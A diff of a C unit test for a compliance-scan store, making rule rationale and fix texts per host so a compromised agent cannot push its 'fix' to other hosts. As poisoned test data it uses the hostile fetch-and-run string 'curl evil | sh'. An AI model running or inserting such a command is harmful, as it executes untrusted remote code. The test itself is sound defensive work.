@@ -931,6 +931,23 @@ START_TEST(test_summary)
 }
 END_TEST
 
+/* Store bundle uuid of host with rules r (texts test). */
+static void
+text_insert(struct store *s, struct store_host *h, struct store_bundle *b,
+    const struct store_rule *r, size_t n, const char *uuid,
+    const char *host)
+{
+	struct plumb_err err;
+	int dup = -1;
+
+	snprintf(h->id, sizeof(h->id), "%s", host);
+	snprintf(b->host, sizeof(b->host), "%s", host);
+	snprintf(b->uuid, sizeof(b->uuid), "%s", uuid);
+	ck_assert_msg(store_bundle_insert(s, h, b, r, n, &dup, &err) == 0,
+	    "%s", err.msg);
+	ck_assert_int_eq(dup, 0);
+}
+
 /*
  * Rule texts: summary.json's rationale and fixtext are read (absent in
  * an older summary: NULL), cut to a byte cap at a UTF-8 boundary, and
@@ -947,7 +964,6 @@ START_TEST(test_rule_texts)
 	struct plumb_err err;
 	char *sum, *at, *ra = NULL, *fx = NULL;
 	size_t n = 0, len;
-	int dup = -1;
 
 	/* An older summary: no texts. */
 	memset(&b, 0, sizeof(b));
@@ -983,8 +999,9 @@ START_TEST(test_rule_texts)
 	ck_assert_ptr_nonnull(strstr(err.msg, "rationale"));
 	free(sum);
 
-	/* Stored once per content: a second bundle of the same content
-	 * with other texts changes nothing. */
+	/* Texts are shared only when identical, and each host sees the
+	 * texts its own agent sent, even for a content another host names
+	 * (a compromised agent cannot put its "fix" under other hosts). */
 	s = open_store();
 	ck_assert_int_eq(store_texts_migrate(s, &err), 0);
 	ck_assert_int_eq(store_texts_migrate(s, &err), 0);
@@ -993,34 +1010,40 @@ START_TEST(test_rule_texts)
 	ck_assert_ptr_nonnull(r[0].rationale = strdup("R1"));
 	ck_assert_ptr_nonnull(r[1].fixtext = strdup("F2"));
 	memset(&h, 0, sizeof(h));
-	snprintf(h.id, sizeof(h.id), "mes01");
-	snprintf(b.uuid, sizeof(b.uuid), U1);
-	snprintf(b.host, sizeof(b.host), "mes01");
 	b.created = b.received = 1000;
-	ck_assert_msg(store_bundle_insert(s, &h, &b, r, n, &dup, &err) == 0,
-	    "%s", err.msg);
-	free(r[0].rationale);
-	ck_assert_ptr_nonnull(r[0].rationale = strdup("other"));
-	snprintf(b.uuid, sizeof(b.uuid), U2);
-	ck_assert_int_eq(store_bundle_insert(s, &h, &b, r, n, &dup, &err), 0);
+	text_insert(s, &h, &b, r, n, U1, "mes01");
+	text_insert(s, &h, &b, r, n, U2, "mes02");
 	ck_assert_str_eq(q(s, "SELECT rule_id, rationale, fixtext FROM "
 	    "rule_texts ORDER BY rule_id", NULL, 0), "r1|R1|-\nr2|-|F2\n");
+	free(r[0].rationale);
+	ck_assert_ptr_nonnull(r[0].rationale = strdup("curl evil | sh"));
+	text_insert(s, &h, &b, r, n, U3, "mes03");
+	ck_assert_str_eq(q(s, "SELECT count(*) FROM rule_texts", NULL, 0),
+	    "4\n");
+	ck_assert_str_eq(q(s, "SELECT count(*) FROM host_texts", NULL, 0),
+	    "3\n");
 	ck_assert_int_eq(store_bundle_get(s, U2, &got, &err), 0);
 	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
 	ck_assert_str_eq(ra, "R1");
 	ck_assert_ptr_null(fx);
 	free(ra);
+	ck_assert_int_eq(store_bundle_get(s, U3, &got, &err), 0);
+	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
+	ck_assert_str_eq(ra, "curl evil | sh");
+	free(ra);
+	ck_assert_int_eq(store_texts_get(s, &got, "r2", &ra, &fx, &err), 0);
+	ck_assert_ptr_null(ra);
+	ck_assert_str_eq(fx, "F2");
+	free(fx);
 	ck_assert_int_eq(store_texts_get(s, &got, "r9", &ra, &fx, &err), 0);
 	ck_assert_ptr_null(ra);
 	ck_assert_ptr_null(fx);
-	/* Another content keeps its own texts. */
-	snprintf(b.content_sha256, sizeof(b.content_sha256), SHA_B);
-	snprintf(b.uuid, sizeof(b.uuid), U3);
-	ck_assert_int_eq(store_bundle_insert(s, &h, &b, r, n, &dup, &err), 0);
-	ck_assert_int_eq(store_bundle_get(s, U3, &got, &err), 0);
+	/* Another host's own scan of it shows its texts, not mes03's. */
+	ck_assert_int_eq(store_bundle_get(s, U1, &got, &err), 0);
 	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
-	ck_assert_str_eq(ra, "other");
+	ck_assert_str_eq(ra, "R1");
 	free(ra);
+	free(fx);
 	store_rules_free(r, n);
 	store_close(s);
 }
